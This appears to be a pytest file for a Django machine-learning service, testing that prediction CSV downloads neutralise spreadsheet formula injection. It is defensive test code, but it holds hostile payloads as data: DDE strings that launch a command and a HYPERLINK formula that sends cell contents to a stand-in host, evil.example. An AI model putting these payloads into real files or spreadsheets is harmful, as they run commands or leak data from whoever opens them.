"""Issue 11 #8: the predictions CSV is not a formula-injection channel (OWASP "CSV Injection").

Uploaded cells and headers that start with `=`, `+`, `-`, `@`, a tab or a carriage return came back verbatim in the
predictions CSV, and class labels (from the training data) flowed into the `predicted_label` cells and the
`probability_<label>` column names. Opened in a spreadsheet, `=HYPERLINK(...)` or a DDE payload runs. Each such text
now gets a leading single quote; numbers stay numbers.
"""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from deepmed.csv_safety import FORMULA_PREFIXES, neutralise_cell, neutralise_frame
from modelhub.models import TrainingModel, TrainingRun
from tabular.bundles import model_bundle_build, model_bundle_save
from tabular.ml.schema import InputSchema
from tabular.ml.training import train_models
from tabular.services import dataset_create
from tabular.tests.factories_models import _preprocessor, patients_frame

URL = "/api/predict_tabular"
DDE_LABEL = "=cmd|' /C calc'!A0"
AT_LABEL = "@SUM(1+1)*cmd|' /C calc'!A0"
HEADER = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
# A carriage return inside a cell splits the row for the batch reader itself; neutralise_cell's own test covers it.
PAYLOADS = ["=1+2", "+41+1", "-2+3", "@SUM(A1)", "\t=cmd", '=HYPERLINK("x")', "plain", "-3.5"]

pytestmark = pytest.mark.django_db


def model_with_labels(user, labels: tuple[str, str]) -> TrainingModel:
    """A real logistic regression whose two classes are `labels` (as a hostile training file would make them)."""
    frame = patients_frame(120, seed=0)
    frame["outcome"] = np.where(frame["outcome"] == "sick", labels[0], labels[1])
    dataset = dataset_create(
        user=user,
        uploaded_file=SimpleUploadedFile("p.csv", frame.to_csv(index=False).encode(), content_type="text/csv"),
    )
    X, y = frame.drop(columns=["outcome"]), frame["outcome"]
    result = train_models(
        X, y, preprocessor=_preprocessor(), models=["logistic_regression"], level=1, cv_folds=3, n_bootstrap=20
    )
    run = TrainingRun.objects.create(
        user=user,
        kind=TrainingRun.Kind.TABULAR,
        status=TrainingRun.Status.SUCCEEDED,
        dataset_type="tabular.dataset",
        dataset_id=str(dataset.pk),
        config={"target": "outcome", "level": 1, "primary_metric": "roc_auc"},
    )
    model_result = result.models[0]
    bundle = model_bundle_build(
        model_result=model_result,
        training_result=result,
        schema=InputSchema.from_frame(X),
        target="outcome",
        dataset=dataset,
        cleaning_plan=None,
        plan_dict={},
        warnings=[],
        cleaning_report={},
    )
    stored = model_bundle_save(bundle, user_id=user.pk, run_id=run.pk)
    return TrainingModel.objects.create(
        user=user,
        run=run,
        model_name=model_result.name,
        file_name=stored.file_name,
        sha256=stored.sha256,
        size=stored.size,
        metric_name="roc_auc",
        metric_value=model_result.metrics["roc_auc"],
        metrics=model_result.to_dict()["metrics"],
    )


@pytest.fixture
def hostile_model(alice):
    return model_with_labels(alice, (DDE_LABEL, AT_LABEL))


def hostile_batch() -> bytes:
    """Patients the model accepts, plus an extra column whose header and text cells are formulas."""
    frame = patients_frame(len(PAYLOADS), seed=4).drop(columns=["outcome"])
    frame[HEADER] = PAYLOADS
    frame["delta"] = -3.5
    return frame.to_csv(index=False).encode()


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula_starts(records: list[list[str]]) -> None:
    for record in records:
        for cell in record:
            if cell.startswith(FORMULA_PREFIXES):
                assert is_plain_number(cell), f"{cell!r} would be evaluated by a spreadsheet"


def post_batch(client, model, content: bytes):
    upload = io.BytesIO(content)
    upload.name = "batch.csv"
    return client.post(URL, {"model_id": model.pk, "file": upload}, format="multipart")


def test_api_predictions_csv_neutralises_cells_headers_and_labels(api_client, alice, hostile_model):
    api_client.force_authenticate(alice)

    response = post_batch(api_client, hostile_model, hostile_batch())

    assert response.status_code == 200, response.content[:500]
    records = csv_cells(response.content)
    assert_no_formula_starts(records)
    header, rows = records[0], records[1:]
    assert "'" + HEADER in header
    echoed = [row[header.index("'" + HEADER)] for row in rows]
    assert echoed == ["'=1+2", "'+41+1", "'-2+3", "'@SUM(A1)", "'\t=cmd", '\'=HYPERLINK("x")', "plain", "-3.5"]
    assert {row[header.index("delta")] for row in rows} == {"-3.5"}, "numbers stay numbers"
    labels = {row[header.index("predicted_label")] for row in rows}
    assert labels <= {"'" + DDE_LABEL, "'" + AT_LABEL} and labels
    assert f"probability_{DDE_LABEL}" in header, "a column name that does not start with a formula is kept"
    probabilities = [float(row[header.index(f"probability_{AT_LABEL}")]) for row in rows]
    assert all(0.0 <= value <= 1.0 for value in probabilities)


def test_the_prediction_page_batch_download_is_neutralised_too(alice, hostile_model):
    client = Client()
    client.force_login(alice)
    upload = io.BytesIO(hostile_batch())
    upload.name = "batch.csv"

    response = client.post("/predict", {"model_id": hostile_model.pk, "file": upload})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert_no_formula_starts(csv_cells(response.content))


def test_a_label_that_starts_a_column_name_is_neutralised_in_the_header(alice):
    """`probability_<label>` never starts with a formula, but an input column named like one does."""
    frame = pd.DataFrame({"-cmd": ["=1"], "@x": [2.0], "ok": ["+1"]})

    safe = neutralise_frame(frame)

    assert list(safe.columns) == ["'-cmd", "'@x", "ok"]
    assert safe["'-cmd"].tolist() == ["'=1"]
    assert safe["'@x"].tolist() == [2.0] and safe["'@x"].dtype == float
    assert safe["ok"].tolist() == ["+1"], "a signed number in a text column is still a number"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("-1e-3", "-1e-3"),
        ("-3.5+1", "'-3.5+1"),
        ("safe", "safe"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_neutralise_cell_quotes_formulas_only(value, expected):
    assert neutralise_cell(value) == expected
